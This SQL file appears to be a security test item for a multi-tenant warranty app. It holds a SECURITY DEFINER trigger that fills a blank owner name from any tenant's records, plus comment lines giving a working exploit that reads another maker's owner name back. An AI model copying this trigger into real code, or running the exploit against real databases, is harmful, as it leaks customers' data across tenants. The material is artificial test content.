-- The trigger fills in the name of an owner with that address from any maker's list, and the caller reads
-- it back.
-- about: fill_owner_name, owners_owner
-- as: hf_warranty_app
-- exploit: SET warranty.maker_id = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: INSERT INTO owners_owner (maker_id, email, name)
-- exploit: VALUES (tenancy_maker(), 'b@road.test', '') RETURNING name;
-- shows: Road-secret owner
-- Owners who come back need not type their name again.
CREATE FUNCTION fill_owner_name() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
  IF NEW.name = '' THEN
    NEW.name := coalesce((SELECT o.name FROM owners_owner o WHERE o.email = NEW.email LIMIT 1), NEW.email);
  END IF;
  RETURN NEW;
END
$$;
CREATE TRIGGER fill_owner_name BEFORE INSERT ON owners_owner
  FOR EACH ROW EXECUTE FUNCTION fill_owner_name();
